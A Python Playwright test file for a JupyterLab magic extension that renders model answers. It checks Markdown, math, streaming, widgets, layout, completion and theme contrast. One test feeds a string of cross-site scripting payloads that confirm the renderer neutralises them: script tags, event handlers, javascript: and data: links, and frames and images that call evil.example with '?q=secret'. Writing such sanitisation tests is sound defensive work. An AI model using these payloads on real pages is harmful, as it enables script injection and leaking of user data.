"""The magics in a real JupyterLab page, as a user sees them."""

import os
import re

import pytest
from playwright.sync_api import expect

from tests.browser.lab import WAIT, Lab, Page, chromium, executable
from tests.conftest import Project

pytestmark = pytest.mark.browser

MARKDOWN = """\
%%gatewayx mock
Some **bold** text, `code` and a [link](https://example.org/page).

* one
* two

It costs $5 to $10, or \\(x\\), or $$y$$; `\\(z\\)`,
\\(\\href{javascript:window.harmed=1}{w}\\)."""

SLOW = "%%gatewayx mock -p rate=20\n**bold** " + "word " * 2000

CLICK = """\
import ipywidgets
button, label = ipywidgets.Button(description="press"), ipywidgets.Label()
button.on_click(lambda _: setattr(label, "value", "heard"))
ipywidgets.VBox([button, label])"""

HOSTILE = """\
%%gatewayx mock
<script>window.harmed = 1; alert(1)</script>
<img src=x onerror="window.harmed = 1">
<iframe src="https://evil.example/frame"></iframe>
<style>@import url(https://evil.example/style);</style>
<svg onload="window.harmed = 1"></svg>
![picture](https://evil.example/picture.png?q=secret)
[run](javascript:window.harmed=1)
[data](data:text/html,<script>window.harmed=1</script>)
<a href="https://evil.example" onclick="window.harmed = 1">press</a>

| a |
|---|
| <b onmouseover="window.harmed = 1">b</b> |

[fine](https://example.org/fine)"""

COLUMNS = (
    """\
%%gatewayx mock mock:other nope -p rate=100 -o both
Some **bold** text and a_word_that_is_wider_than_any_column_"""
    + "of_three_" * 40
)

LOADED = "%load_ext gatewayx_nb\nprice = 1"
CELLS = [LOADED, MARKDOWN, SLOW, CLICK, SLOW, HOSTILE, "%gatewayx", COLUMNS, ""]
LOAD, SHOWN, STOPPED, BUTTON, STREAM, ATTACK, STATE, SEVERAL, TAB = range(len(CELLS))

_CELL = "window.jupyterapp.shell.currentWidget.content.widgets[index].model.sharedModel"
_EMPTY = f"index => {{ {_CELL}.setSource(''); }}"
_SOURCE = f"index => {_CELL}.getSource()"

# Contrast of an element's text, with its opacity applied:
# https://www.w3.org/TR/WCAG22/#dfn-contrast-ratio.
_CONTRAST = """element => {
    const rgb = text => text.match(/[\\d.]+/g).map(Number);
    let box = element, alpha = 1;
    for (let at = element; at; at = at.parentElement) alpha *= getComputedStyle(at).opacity;
    while (box && (rgb(getComputedStyle(box).backgroundColor)[3] ?? 1) === 0)
        box = box.parentElement;
    const back = rgb(getComputedStyle(box).backgroundColor);
    const text = rgb(getComputedStyle(element).color)
        .slice(0, 3).map((part, i) => alpha * part + (1 - alpha) * back[i]);
    const light = color => {
        const [r, g, b] = color.slice(0, 3).map(part => part / 255)
            .map(part => part <= .03928 ? part / 12.92 : ((part + .055) / 1.055) ** 2.4);
        return .2126 * r + .7152 * g + .0722 * b;
    };
    const [low, high] = [light(text), light(back)].sort((a, b) => a - b);
    return (high + .05) / (low + .05);
}"""


@pytest.fixture(scope="module")
def lab(tmp_path_factory):
    """Yield a JupyterLab in a project."""
    if executable() is None:
        missing = "no Chromium on this machine: apt-get install chromium"
        if os.environ.get("CI") == "true":
            pytest.fail(missing)
        pytest.skip(missing)
    folder = tmp_path_factory.mktemp("lab")
    (folder / "home").mkdir()
    project = Project(folder / "project")
    project.set_keys("GATEWAYX_GROK_API_KEY=xai-0123456789abcdef\n")
    with Lab(project.root, folder / "home") as lab:
        yield lab


@pytest.fixture(scope="module")
def page(lab):
    """Yield a page of a notebook that holds `CELLS`, with the extension loaded."""
    with chromium() as browser:
        page = Page(browser, lab, CELLS)
        page.run(LOAD)
        page.run(STATE)
        page.output(STATE).wait_for()  # the first output appears once the renderers have loaded
        yield page


def test_markdown_is_shown_with_its_summary(page):
    """Markdown is rendered; the line below shows model, seconds and tokens."""
    page.run(SHOWN)

    shown = page.output(SHOWN)
    expect(shown.locator("strong")).to_have_text("bold")
    assert shown.count() == 1
    assert shown.locator("li").all_inner_texts() == ["one", "two"]
    assert shown.locator("code").first.inner_text() == "code"
    link = shown.locator("a")
    assert link.get_attribute("href") == "https://example.org/page"
    assert "noopener" in link.get_attribute("rel")
    expect(shown).to_contain_text(re.compile(r"mock:mock · \d\.\d s.* 22 in, 23 out · \$0"))


def test_mathematics_is_typeset_and_money_is_not(page):
    """JupyterLab typesets mathematics, but not dollar amounts, code, or TeX that would link."""
    shown = page.output(SHOWN)

    expect(shown.locator("mjx-container")).to_have_count(2)
    assert shown.locator("mjx-container[display=true]").count() == 1
    assert [code.inner_text() for code in shown.locator("code").all()][1:] == ["\\(z\\)"]
    expect(shown).to_contain_text("It costs $5 to $10, or ")
    expect(shown).to_contain_text("\\(\\href{javascript:window.harmed=1}{w}\\)")
    assert shown.locator("a").count() == 1


def test_the_stop_button_stops_a_growing_answer(page):
    """A streamed answer is rendered as it grows, until the Stop button stops it.

    The partial answer stays, marked as stopped; the error is one line.
    """
    page.start(STOPPED)
    expect(page.output(STOPPED)).to_contain_text("word word", timeout=WAIT)
    expect(page.output(STOPPED).locator("strong")).to_have_text("bold")
    expect(page.cell(STOPPED).locator(".jp-InputPrompt")).to_have_text("[*]:")
    page.stop()
    page.ended(STOPPED)

    shown = page.output(STOPPED)
    expect(shown.first).to_contain_text("[mock] bold word word")
    expect(shown.first).to_contain_text("· interrupted")
    expect(shown.last).to_have_text("KeyboardInterrupt: stopped")
    assert shown.count() == 2


def test_a_click_is_handled_while_a_cell_streams(page):
    """A widget responds to a click while a cell is streaming, not only when it ends."""
    page.run(BUTTON)
    page.start(STREAM)
    expect(page.output(STREAM)).to_contain_text("word word", timeout=WAIT)

    try:
        page.tab.get_by_role("button", name="press").click()
        expect(page.output(BUTTON)).to_contain_text("heard")
        expect(page.cell(STREAM).locator(".jp-InputPrompt")).to_have_text("[*]:")
    finally:
        page.stop()
        page.ended(STREAM)


def test_a_hostile_answer_does_nothing(page):
    """A hostile answer's scripts, handlers, frames, styles and images do nothing; links work."""
    page.run(ATTACK)
    shown = page.output(ATTACK)
    shown.hover()
    page.tab.wait_for_timeout(500)  # gives automatic loads enough time

    hrefs = [link.get_attribute("href") for link in shown.locator("a").all()]
    assert hrefs == ["https://example.org/fine"]
    active = "script, img, iframe, style, svg, object, embed, form, input, video, audio, link"
    assert shown.locator(active).count() == 0
    assert "onmouseover" in shown.inner_text()
    attributes = "output => [...output.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
    names = set(shown.first.evaluate(attributes))
    assert not [name for name in names if name.startswith("on")]
    assert page.tab.evaluate("window.harmed") is None
    assert page.foreign == []
    assert page.dialogs == []


def test_several_answers_are_side_by_side(page):
    """Several answers are in equal columns on a wide page, and stacked on a narrow one."""
    page.run(SEVERAL)
    shown = page.output(SEVERAL)
    columns = shown.locator(".gatewayx-column")
    assert shown.count() == 1
    labels = [shown.get_by_role("group", name=name, exact=True) for name in ("mock", "nope")]
    assert [label.count() for label in labels] == [1, 1]
    assert columns.locator("em, strong").all_inner_texts() == [
        *("mock", "bold", "mock:other", "bold", "nope"),
    ]
    expect(columns.nth(1)).to_contain_text(re.compile(r"mock:other · \d\.\d s.* in, .* out · \$0"))
    expect(columns.nth(2)).to_contain_text("EngineNotFoundError: no engine 'nope'.")

    left, middle, right = (columns.nth(index).bounding_box() for index in range(3))
    assert left["y"] == middle["y"] == right["y"]
    assert left["x"] + left["width"] < middle["x"] < middle["x"] + middle["width"] < right["x"]
    assert abs(left["width"] - right["width"]) < 1

    page.tab.set_viewport_size({"width": 700, "height": 1400})
    try:
        expect(columns.nth(1)).not_to_have_js_property("offsetTop", columns_top(columns))
        stacked = [columns.nth(index).bounding_box() for index in range(3)]
        assert stacked[0]["x"] == stacked[1]["x"] == stacked[2]["x"]
        assert stacked[0]["y"] < stacked[1]["y"] < stacked[2]["y"]
    finally:
        page.tab.set_viewport_size({"width": 1200, "height": 1400})


def test_columns_of_a_last_row_are_as_wide_as_the_others(page):
    """The columns of a last row are as wide as the others; they do not stretch."""
    page.tab.set_viewport_size({"width": 900, "height": 1400})
    try:
        columns = page.output(SEVERAL).locator(".gatewayx-column")
        expect(columns.nth(2)).not_to_have_js_property("offsetTop", columns_top(columns))
        first, second, third = (columns.nth(index).bounding_box() for index in range(3))
        assert first["y"] == second["y"] < third["y"]
        assert abs(first["width"] - third["width"]) < 1
    finally:
        page.tab.set_viewport_size({"width": 1200, "height": 1400})


@pytest.mark.parametrize(
    ("typed", "offered", "becomes"),
    [
        ("%%gatewayx gr", "grok", "%%gatewayx grok"),
        ("%%gatewayx mock --as j", "json", "%%gatewayx mock --as json"),
        ("%%gatewayx mock\nOf {{pr", "price", "%%gatewayx mock\nOf {{price"),
    ],
)
def test_tab_offers_completions_and_a_click_accepts_one(page, typed, offered, becomes):
    """Tab completion offers only names of this package, in the line and in the cell's prompt.

    Clicking an offer completes the name and keeps the typed text.
    """
    page.tab.evaluate(_EMPTY, TAB)
    page.cell(TAB).locator(".cm-content").click()
    page.tab.keyboard.insert_text(typed)
    page.tab.keyboard.press("Tab")
    words = page.tab.locator(".jp-Completer-item .jp-Completer-match")
    expect(words.first).to_have_text(offered)
    assert all(word.startswith(offered) for word in words.all_inner_texts())
    words.first.click()

    expect(page.tab.locator(".jp-Completer-item:visible")).to_have_count(0)
    assert page.tab.evaluate(_SOURCE, TAB) == becomes


def columns_top(columns):
    """Return the top offset of the first column."""
    return columns.nth(0).evaluate("column => column.offsetTop")


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_every_theme_is_readable(page, theme):
    """Every theme has WCAG's contrast for text, 4.5 to 1; the muted line has 3 to 1."""
    page.command("apputils:change-theme", theme=theme)
    page.tab.locator(f"body[data-jp-theme-name='{theme}']").wait_for(state="attached")

    answer, state = page.output(SHOWN), page.output(STATE)
    for text in (answer.locator("p").first, answer.locator("code").first, answer.locator("a")):
        assert text.evaluate(_CONTRAST) >= 4.5
    columns = page.output(SEVERAL).locator(".gatewayx-column")
    for text in (state.locator("td").first, state.locator("code").first):
        assert text.evaluate(_CONTRAST) >= 4.5
    for text in (columns.locator("strong").first, columns.locator(".gatewayx-error")):
        assert text.evaluate(_CONTRAST) >= 4.5
    assert answer.locator(".gatewayx-line").evaluate(_CONTRAST) >= 3


def test_a_kernel_restarted_in_mid_stream_works_again(page):
    """After a kernel restart while streaming, the partial answer stays and the next cell works."""
    page.start(STREAM)
    expect(page.output(STREAM)).to_contain_text("word word")
    page.restart()
    expect(page.output(STREAM)).to_contain_text("word word")
    page.run(LOAD)
    page.run(SHOWN)
    expect(page.output(SHOWN)).to_contain_text("$0")
